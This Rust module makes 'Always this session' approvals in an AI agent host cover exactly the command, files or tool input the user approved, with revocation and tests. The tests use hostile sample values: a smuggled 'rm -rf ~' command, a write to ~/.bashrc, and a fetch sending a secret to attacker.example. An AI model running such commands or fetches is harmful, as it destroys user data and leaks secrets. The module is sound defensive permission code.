//! Session grants: what "Always this session" on an approval card covers, kept per thread so
//! that a harness process started again later (after idle, a restart of the app) does not ask
//! once more about exactly what the user already allowed.
//!
//! The rule of this module: a grant covers exactly what its card showed, and nothing else
//! (docs/architecture.md "Approvals and permission modes"):
//! - its scope is the request itself: the command *and* its folder, the very files of a file
//!   change, a tool with exactly that input;
//! - it is never used in the process that raised it, nor in any process that was already
//!   running when it was granted: there the harness remembers its own session rules, which
//!   the card listed, and when the harness asks again (Claude asks again about files outside
//!   its working folders even in `acceptEdits`) that is a question for the user;
//! - it answers "approve once", so the harness adds none of its own rules on its strength;
//! - it is never copied into a fork: a fork is a new session, and "this session" was the
//!   source's (a fork before the granting turn never saw the request at all);
//! - a Host told not to use grants (the CLI's `--approve none`) asks, or declines, as if there
//!   were none;
//! - the user can list and revoke them; a revoked grant also ends the harness process that
//!   may remember it (at once when idle, else when its turn ends).

use std::path::Path;
use std::sync::atomic::Ordering;
use std::sync::Arc;

use forkhost_harness::ApprovalDecision;
use forkhost_store::GrantRow;
use serde::{Deserialize, Serialize};

use crate::approvals::{ApprovalView, SubjectView};
use crate::error::{HostError, HostResult};
use crate::events::HostEvent;
use crate::host::Host;
use crate::slot::TurnState;

/// Exactly what a grant covers.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, ts_rs::TS)]
#[serde(tag = "kind", rename_all = "snake_case")]
#[ts(export)]
pub enum GrantScope {
    /// This command, run in this folder.
    Command {
        command: String,
        cwd: Option<String>,
    },
    /// Changes to these files; a later change matches when every file it touches is here.
    FileChange { paths: Vec<String> },
    /// This tool with exactly this input.
    Tool {
        name: String,
        #[ts(type = "unknown")]
        input: serde_json::Value,
    },
}

impl GrantScope {
    /// The scope of approving `subject` for the session; questions grant nothing, nor does a
    /// file change that names no file.
    pub fn of(subject: &SubjectView) -> Option<GrantScope> {
        match subject {
            SubjectView::Command { command, cwd } => Some(GrantScope::Command {
                command: command.clone(),
                cwd: cwd.as_deref().map(path_text),
            }),
            SubjectView::FileChange { paths, .. } if !paths.is_empty() => {
                let mut paths = paths.clone();
                paths.sort();
                paths.dedup();
                Some(GrantScope::FileChange { paths })
            }
            SubjectView::FileChange { .. } | SubjectView::Question { .. } => None,
            SubjectView::Tool { name, input } => Some(GrantScope::Tool {
                name: name.clone(),
                input: input.clone(),
            }),
        }
    }

    /// Whether a request for `subject` is one the user already allowed under this scope.
    pub fn covers(&self, subject: &SubjectView) -> bool {
        match (self, subject) {
            (
                GrantScope::Command { command, cwd },
                SubjectView::Command {
                    command: asked,
                    cwd: asked_cwd,
                },
            ) => {
                command == asked && cwd.as_deref() == asked_cwd.as_deref().map(path_text).as_deref()
            }
            (GrantScope::FileChange { paths }, SubjectView::FileChange { paths: asked, .. }) => {
                !asked.is_empty() && asked.iter().all(|p| paths.contains(p))
            }
            (
                GrantScope::Tool { name, input },
                SubjectView::Tool {
                    name: asked,
                    input: asked_input,
                },
            ) => name == asked && input == asked_input,
            _ => false,
        }
    }

    /// The scope in a few words, for the card, the header's list and the CLI.
    pub fn words(&self) -> String {
        match self {
            GrantScope::Command { command, cwd } => match cwd {
                Some(cwd) => format!("run `{command}` in {cwd}"),
                None => format!("run `{command}`"),
            },
            GrantScope::FileChange { paths } => format!("change {}", paths.join(", ")),
            GrantScope::Tool { name, input } => {
                let input = input.to_string();
                match input.chars().count() > 160 {
                    true => format!(
                        "use {name} with {}…",
                        input.chars().take(160).collect::<String>()
                    ),
                    false => format!("use {name} with {input}"),
                }
            }
        }
    }
}

fn path_text(path: &Path) -> String {
    path.display().to_string()
}

/// A grant as the app and the CLI list it.
#[derive(Debug, Clone, PartialEq, Serialize, ts_rs::TS)]
#[ts(export)]
pub struct GrantView {
    /// Revoke it by this id.
    pub id: String,
    pub scope: GrantScope,
    /// What it allows, in words.
    pub words: String,
    /// When it was granted, in ms since the epoch.
    #[ts(type = "number")]
    pub granted_at: i64,
}

impl GrantView {
    fn from_row(row: GrantRow) -> Option<GrantView> {
        // A scope this version cannot read grants nothing (and is still listed nowhere).
        let scope: GrantScope = serde_json::from_str(&row.scope).ok()?;
        Some(GrantView {
            id: row.id,
            words: scope.words(),
            scope,
            granted_at: row.granted_at,
        })
    }
}

pub(crate) fn now_ms() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_millis() as i64)
}

impl Host {
    /// The thread's session grants, oldest first.
    pub async fn session_grants(&self, thread_id: &str) -> HostResult<Vec<GrantView>> {
        self.store().thread(thread_id).await?;
        let rows = self.store().grants(thread_id).await?;
        Ok(rows.into_iter().filter_map(GrantView::from_row).collect())
    }

    /// Revokes one grant. The harness process that may remember it (its own session rule)
    /// is ended too: at once when idle, else when its running turn ends. An id the thread
    /// does not have is `invalid_input`.
    pub async fn revoke_grant(&self, thread_id: &str, grant_id: &str) -> HostResult<()> {
        self.store().thread(thread_id).await?;
        if !self.store().revoke_grant(thread_id, grant_id).await? {
            return Err(HostError::InvalidInput(format!(
                "thread {thread_id} has no session grant {grant_id:?} (see `forkhost grants {thread_id}`)"
            )));
        }
        tracing::info!(thread = %thread_id, grant = %grant_id, "session grant revoked");
        let slot = self.slot(thread_id);
        let streaming = {
            let live = slot.live.lock().await;
            live.as_ref().map(|l| {
                l.turn.retire.store(true, Ordering::SeqCst);
                l.turn.is_streaming()
            })
        };
        if streaming == Some(false) {
            let _op = slot.ops.lock().await;
            self.stop_runtime(&slot).await;
        }
        self.emit(HostEvent::GrantsChanged {
            thread_id: thread_id.to_owned(),
        });
        Ok(())
    }

    /// Whether this Host answers requests by the user's session grants (on by default). The
    /// CLI's `--approve none` turns it off: nothing runs then that is not asked and allowed.
    pub fn use_session_grants(&self, on: bool) {
        self.inner.session_grants.store(on, Ordering::SeqCst);
    }

    /// Keeps the grant of an "Always this session" answer to a request about `subject`. A
    /// failure only means the user is asked again in a later process.
    pub(crate) async fn record_grant(&self, thread_id: &str, subject: &SubjectView) {
        let Some(scope) = GrantScope::of(subject) else {
            return;
        };
        let row = GrantRow {
            id: uuid::Uuid::new_v4().to_string(),
            thread_id: thread_id.to_owned(),
            scope: serde_json::to_string(&scope).unwrap_or_default(),
            granted_at: now_ms(),
        };
        match self.store().add_grant(&row).await {
            Ok(kept) => {
                tracing::info!(thread = %thread_id, grant = %kept.id, "session grant kept");
                self.emit(HostEvent::GrantsChanged {
                    thread_id: thread_id.to_owned(),
                });
            }
            Err(err) => {
                tracing::warn!(thread = %thread_id, error = %err, "could not keep a session grant");
            }
        }
    }

    /// Whether a grant the user made before this runtime started covers `request`.
    pub(crate) async fn granted(
        &self,
        thread_id: &str,
        request: &ApprovalView,
        turn: &TurnState,
    ) -> bool {
        if !self.inner.session_grants.load(Ordering::SeqCst) {
            return false;
        }
        let Ok(rows) = self.store().grants(thread_id).await else {
            return false;
        };
        rows.into_iter()
            .filter(|row| row.granted_at < turn.started_ms())
            .filter_map(GrantView::from_row)
            .any(|grant| grant.scope.covers(&request.subject))
    }

    /// Approves, once, a request a session grant covers, on the runtime that raised it and
    /// no other (a successor may reuse the harness's id). It was never shown, so nothing is
    /// announced; if the runtime refuses, the request is shown after all.
    pub(crate) async fn answer_by_grant(
        &self,
        thread_id: &str,
        request: ApprovalView,
        raised_by: Arc<TurnState>,
    ) {
        let slot = self.slot(thread_id);
        let mut live = slot.live.lock().await;
        let Some(current) = live.as_mut().filter(|l| Arc::ptr_eq(&l.turn, &raised_by)) else {
            tracing::info!(thread = %thread_id, request = %request.id, "a granted request's runtime is gone; not answered");
            return;
        };
        match current
            .runtime
            .answer(&request.native_id, ApprovalDecision::Approve)
            .await
        {
            Ok(()) => {
                tracing::info!(thread = %thread_id, request = %request.id, "approved by a session grant");
            }
            Err(err) => {
                tracing::warn!(thread = %thread_id, request = %request.id, code = HostError::from(err).code(), "a session grant could not answer; asking");
                current.turn.approvals().add(request.clone());
                drop(live);
                self.emit(HostEvent::ApprovalRequested {
                    thread_id: thread_id.to_owned(),
                    request,
                });
            }
        }
    }

    /// Ends a runtime whose grants were revoked while its turn ran, once that turn is over,
    /// unless it was already replaced or another turn started.
    pub(crate) async fn retire_runtime(&self, thread_id: &str, turn: &Arc<TurnState>) {
        let slot = self.slot(thread_id);
        let _op = slot.ops.lock().await;
        let same = slot
            .live
            .lock()
            .await
            .as_ref()
            .is_some_and(|l| Arc::ptr_eq(&l.turn, turn) && !l.turn.is_streaming());
        if same {
            self.stop_runtime(&slot).await;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn command(command: &str, cwd: &str) -> SubjectView {
        SubjectView::Command {
            command: command.into(),
            cwd: Some(cwd.into()),
        }
    }

    fn files(paths: &[&str]) -> SubjectView {
        SubjectView::FileChange {
            paths: paths.iter().map(|p| p.to_string()).collect(),
            diff: None,
        }
    }

    #[test]
    fn a_file_grant_covers_its_own_files_only() {
        // H1: one "Always" on an in-project write never covers ~/.bashrc.
        let grant = GrantScope::of(&files(&["/w/a.txt"])).unwrap();
        assert!(grant.covers(&files(&["/w/a.txt"])));
        assert!(!grant.covers(&files(&["/home/u/.bashrc"])));
        assert!(!grant.covers(&files(&["/w/a.txt", "/home/u/.bashrc"])));
        assert!(
            !grant.covers(&files(&[])),
            "a change naming no file is asked"
        );
        let two = GrantScope::of(&files(&["/w/b", "/w/a", "/w/a"])).unwrap();
        assert_eq!(
            two,
            GrantScope::FileChange {
                paths: vec!["/w/a".into(), "/w/b".into()]
            }
        );
        assert!(two.covers(&files(&["/w/b"])));
        assert!(GrantScope::of(&files(&[])).is_none());
    }

    #[test]
    fn a_command_grant_needs_the_same_command_in_the_same_folder() {
        let grant = GrantScope::of(&command("touch x", "/a")).unwrap();
        assert!(grant.covers(&command("touch x", "/a")));
        assert!(!grant.covers(&command("touch x", "/b")));
        assert!(!grant.covers(&command("touch x; rm -rf ~", "/a")));
        assert!(!grant.covers(&SubjectView::Command {
            command: "touch x".into(),
            cwd: None
        }));
        assert!(
            !grant.covers(&files(&["/a/x"])),
            "another kind never matches"
        );
    }

    #[test]
    fn a_tool_grant_needs_exactly_the_same_input() {
        let fetch = |url: &str| SubjectView::Tool {
            name: "WebFetch".into(),
            input: json!({ "url": url }),
        };
        let grant = GrantScope::of(&fetch("https://docs.rs")).unwrap();
        assert!(grant.covers(&fetch("https://docs.rs")));
        assert!(!grant.covers(&fetch("https://attacker.example/?d=secret")));
        assert!(!grant.covers(&SubjectView::Tool {
            name: "Read".into(),
            input: json!({ "url": "https://docs.rs" })
        }));
        assert!(GrantScope::of(&SubjectView::Question { questions: vec![] }).is_none());
    }

    /// A stand-in runtime that records what it is answered.
    struct Recording(Arc<std::sync::Mutex<Vec<String>>>);

    #[async_trait::async_trait]
    impl forkhost_harness::LiveRuntime for Recording {
        async fn send(&mut self, _: &str) -> forkhost_harness::HarnessResult<()> {
            Ok(())
        }
        async fn interrupt(&mut self) -> forkhost_harness::HarnessResult<()> {
            Ok(())
        }
        async fn answer(
            &mut self,
            id: &str,
            _: ApprovalDecision,
        ) -> forkhost_harness::HarnessResult<()> {
            self.0.lock().unwrap().push(id.to_owned());
            Ok(())
        }
        async fn close(self: Box<Self>) -> forkhost_harness::HarnessResult<()> {
            Ok(())
        }
        fn pid(&self) -> Option<u32> {
            None
        }
    }

    fn raised(id: &str, turn: &TurnState) -> ApprovalView {
        ApprovalView::new(
            forkhost_harness::ApprovalRequest {
                id: id.into(),
                tool_call_id: None,
                subject: forkhost_harness::ApprovalSubject::Command {
                    command: "touch x".into(),
                    cwd: None,
                },
                reason: None,
                session_rules: vec![],
            },
            1,
            turn.generation(),
        )
    }

    #[tokio::test]
    async fn a_grant_answers_only_the_runtime_that_raised_the_request() {
        // L4: runtime A raised "0"; by the time the grant's task runs, runtime B (whose own
        // requests are numbered from "0" too) has taken A's place.
        let dir = tempfile::tempdir().unwrap();
        let (host, _) = Host::open(dir.path()).await.unwrap();
        let answered = Arc::new(std::sync::Mutex::new(Vec::new()));
        let (_tx, rx) = tokio::sync::mpsc::unbounded_channel();
        let b = host.live(
            "t",
            forkhost_harness::Runtime::from_live(Box::new(Recording(answered.clone()))),
            rx,
        );
        let b_turn = b.turn.clone();
        *host.slot("t").live.lock().await = Some(b);
        let a_turn = Arc::new(TurnState::started());
        assert_ne!(a_turn.generation(), b_turn.generation());

        let from_a = raised("0", &a_turn);
        assert_ne!(from_a.id, raised("0", &b_turn).id, "ids name their runtime");
        host.answer_by_grant("t", from_a, a_turn).await;
        assert!(
            answered.lock().unwrap().is_empty(),
            "B's \"0\" was answered"
        );

        // The control: B's own request is answered.
        host.answer_by_grant("t", raised("0", &b_turn), b_turn)
            .await;
        assert_eq!(*answered.lock().unwrap(), ["0"]);
        host.shutdown().await;
    }

    #[test]
    fn scopes_round_trip_and_say_what_they_allow() {
        let scope = GrantScope::of(&command("touch x", "/w")).unwrap();
        let text = serde_json::to_string(&scope).unwrap();
        assert_eq!(serde_json::from_str::<GrantScope>(&text).unwrap(), scope);
        assert_eq!(scope.words(), "run `touch x` in /w");
        let view = GrantView::from_row(GrantRow {
            id: "g".into(),
            thread_id: "t".into(),
            scope: text,
            granted_at: 1,
        })
        .unwrap();
        assert_eq!(view.words, "run `touch x` in /w");
        assert!(
            GrantView::from_row(GrantRow {
                id: "old".into(),
                thread_id: "t".into(),
                scope: "file_change".into(),
                granted_at: 1,
            })
            .is_none(),
            "an unreadable scope grants nothing"
        );
    }
}
